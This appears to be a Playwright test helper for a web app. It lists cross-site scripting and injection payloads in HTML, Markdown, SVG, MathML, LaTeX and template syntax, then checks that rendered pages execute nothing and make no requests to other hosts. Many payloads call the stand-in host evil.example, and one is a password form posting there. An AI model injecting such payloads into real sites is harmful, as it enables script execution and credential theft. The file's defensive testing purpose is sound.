import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';

/** Every family of active content, in the forms that get past those who look for words. It runs as `__ran`. */
export const families: [name: string, text: string][] = [
  ['a script', '<script>window.__ran=1</script>'],
  ['a script in capitals from elsewhere', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a tag in a tag', '<scr<script>ipt>window.__ran=1</scr</script>ipt>'],
  ['a picture that fails', '<img src=x onerror="window.__ran=1">'],
  ['a tag that is never closed', '<img src=x onerror=window.__ran=1 '],
  ['a handler', '<b onpointerenter="__ran=1" onclick="__ran=1" tabindex=0 autofocus onfocus="__ran=1">x</b>'],
  ['a detail that opens', '<details open ontoggle=window.__ran=1><summary>x</summary></details>'],
  ['an SVG', '<svg/onload=window.__ran=1><animate onbegin=window.__ran=1 attributeName=x dur=1s />'],
  ['an SVG that links', '<svg><a xlink:href="javascript:window.__ran=1"><text y=9>x</text></a></svg>'],
  ['a foreign element', '<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>">'],
  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=1></style>'],
  ['a frame', '<iframe src="javascript:parent.__ran=1" srcdoc="<script>parent.__ran=1</script>"></iframe>'],
  ['a frame from elsewhere', '<iframe src="https://evil.example/"></iframe><frame src=//evil.example>'],
  [
    'an object',
    '<object data="data:text/html,<script>window.__ran=1</script>"></object><embed src=//evil.example>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button formaction=//evil.example>Go</button></form>',
  ],
  ['an overlay', '<div style="position:fixed;inset:0;z-index:99999;background:#fff">over</div>'],
  [
    'a style',
    '<style>@import "//evil.example/x.css"; main{position:fixed;background:url(//evil.example/p)}</style>',
  ],
  ['a stylesheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['a meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['a base', '<base href="https://evil.example/">'],
  [
    'a link',
    '<a href="javascript:window.__ran=1">link</a> <a href=" &#106;ava&Tab;script:window.__ran=1">link</a>',
  ],
  [
    'a media element',
    '<video autoplay src=//evil.example/v onerror=window.__ran=1><source onerror=window.__ran=1></video>',
  ],
  [
    'what ends an attribute',
    "\"><img src=x onerror=window.__ran=1> '-(window.__ran=1)-' `-(window.__ran=1)-`",
  ],
  ['what ends a text', '</title></textarea></style></noscript></script><script>window.__ran=1</script>'],
  ['a comment', '<!--><img src=x onerror=window.__ran=1>--> <![CDATA[<script>window.__ran=1</script>]]>'],
  ['entities', '&lt;img src=x onerror=window.__ran=1&gt; &#60;script&#62;window.__ran=1&#60;/script&#62;'],
  ['a Markdown link to a script', '[link](javascript:window.__ran=1) [link](JaVaScRiPt:window.__ran=1)'],
  [
    'one with a break in it',
    '[link](<java&#10;script:window.__ran=1>) [link](&#x01;javascript:window.__ran=1)',
  ],
  [
    'one to data',
    '[link](data:text/html;base64,PHNjcmlwdD4=) [link](vbscript:msgbox) [link](file:///etc/passwd)',
  ],
  ['one without a scheme', '[link](//evil.example/x) [link](/\\evil.example) [link](\\\\evil.example)'],
  ['a reference', '[link][l] ![x][l]\n\n[l]: javascript:window.__ran=1 "onclick=window.__ran=1"'],
  ['an automatic link', '<javascript:window.__ran=1> <data:text/html,x> www.evil.example/x'],
  ['a picture from elsewhere', '![x](https://evil.example/p.png) ![x](//evil.example/p.png "t")'],
  [
    'a picture from data',
    '![x](data:image/svg+xml,<svg/onload=window.__ran=1>) ![x](javascript:window.__ran=1)',
  ],
  ['a link title', '[x](https://ok.example "\\" onmouseover=window.__ran=1 x=\\"")'],
  ['a formula that links', '$\\href{javascript:window.__ran=1}{x}$ $\\url{javascript:window.__ran=1}$'],
  [
    'a formula with html',
    '$\\htmlStyle{position:fixed}{x}$ $\\htmlId{main}{x}$ $\\htmlData{x=y}{x}$ $\\includegraphics{https://evil.example/p.png}$',
  ],
  [
    'a formula that covers the page',
    '$\\rlap{\\smash{\\rule[-200em]{400em}{400em}}}$ $\\raisebox{-50em}{\\rule{90em}{90em}}$',
  ],
  ['a formula without end', '$\\def\\a{\\a\\a}\\a$'],
  ['attributes on a directive', ':zh[字]{onclick="window.__ran=1" style="position:fixed" .fixed .inset-0}'],
  ['attributes on a heading', '### x {#main onclick="window.__ran=1" style="position:fixed"}'],
  ['a directive', ':iframe[x]{src="//evil.example"} :script[window.__ran=1] :style[x]'],
  ['a code block', '```html onload="window.__ran=1" {style}\n<script>window.__ran=1</script>\n```'],
  [
    'a template',
    `{{constructor.constructor('window.__ran=1')()}} \${window.__ran=1} <%= 1 %> #{1} {{< x >}}`,
  ],
  [
    'characters that turn or hide',
    '\u202eevil.example\u202c \u2066x\u2069 pay\u200bpal \ufeff\u2060 e\u0301\u0301\u0301',
  ],
];

/** A family as one line, for fields that have one. */
export const oneLine = (text: string): string => text.replace(/\s+/g, ' ').trim();

/** What happened in a browser that must not: scripts that ran, dialogs, requests that left. */
export function watch(page: Page): { found: string[] } {
  const found: string[] = [];
  const context = page.context();
  const { host: own } = new URL(test.info().project.use.baseURL ?? '');
  const follow = (opened: Page) => {
    opened.on('dialog', (dialog) => {
      found.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    opened.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (host !== own && !/^(data|blob):$/.test(protocol)) found.push(`request ${request.url()}`);
    });
  };
  context.pages().forEach(follow);
  context.on('page', (opened) => {
    found.push(`opened ${opened.url()}`);
    follow(opened);
  });
  return { found };
}

/**
 * What in the page as the browser has built it would run, fetch from elsewhere, send elsewhere or lie over
 * other things. Pages have none of it by themselves.
 */
const activeIn = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    if ('__ran' in window) found.push('a script ran');
    const here = (address: string) => new URL(address, location.href);
    for (const node of document.querySelectorAll('*')) {
      const name = node.tagName.toLowerCase();
      const said = `<${name} class="${node.getAttribute('class') ?? ''}">`;
      if (/^(i?frame|object|embed|base|applet|foreignobject|animate|marquee|mglyph)$/.test(name))
        found.push(said);
      if (name === 'meta' && /refresh/i.test(node.getAttribute('http-equiv') ?? '')) found.push(said);
      if (name === 'style' && node.closest('main')) found.push(said);
      if (name === 'script' && node.closest('.lesson-block, .ed-preview-scroll, .source-text'))
        found.push(said);
      for (const { name: attribute, value } of node.attributes) {
        if (/^on|^srcdoc$/i.test(attribute)) found.push(`${said} ${attribute}`);
        if (!/^(href|xlink:href|src|action|formaction|data|poster|background|srcset)$/i.test(attribute))
          continue;
        if (attribute === 'srcset') continue;
        const { protocol, origin } = here(value);
        const fetches = !/^(href|xlink:href)$/.test(attribute) || name === 'link';
        // What React writes where a form has an action of its own; it is never followed.
        if (value.startsWith("javascript:throw new Error('A React form was unexpectedly submitted."))
          continue;
        if (!/^(https?|mailto):$/.test(protocol) && !value.startsWith('data:image/'))
          found.push(`${said} ${attribute}=${value}`);
        if (fetches && origin !== location.origin && !value.startsWith('data:image/'))
          found.push(`${said} ${attribute}=${value}`);
      }
      const style = getComputedStyle(node);
      const ours = node.closest('[popover], dialog, .cm-editor') !== null || node.closest('main') === null;
      if (style.position === 'fixed' && !ours) found.push(`${said} lies over the page`);
      if (name === 'form' && node.closest('.lesson-block') && !node.matches('.question')) found.push(said);
    }
    // A formula may be drawn anywhere; what it covers is what counts.
    for (const math of document.querySelectorAll('math')) {
      math.scrollIntoView({ block: 'center', behavior: 'instant' });
      const box = math.getBoundingClientRect();
      const edge = 0.5 * Number.parseFloat(getComputedStyle(math).fontSize);
      for (const [x, y] of [
        [box.left, box.top - 3 * edge],
        [box.left, box.bottom + 3 * edge],
      ] as const) {
        if (document.elementFromPoint(x, y)?.closest('math') === math)
          found.push('a formula covers its neighbours');
      }
    }
    return [...new Set(found)];
  });

/** The page as it stands has nothing active in it, and nothing has happened. */
export async function expectInert(
  page: Page,
  watched: { found: string[] },
  where = page.url(),
): Promise<void> {
  expect(await activeIn(page), where).toEqual([]);
  expect(watched.found, where).toEqual([]);
}
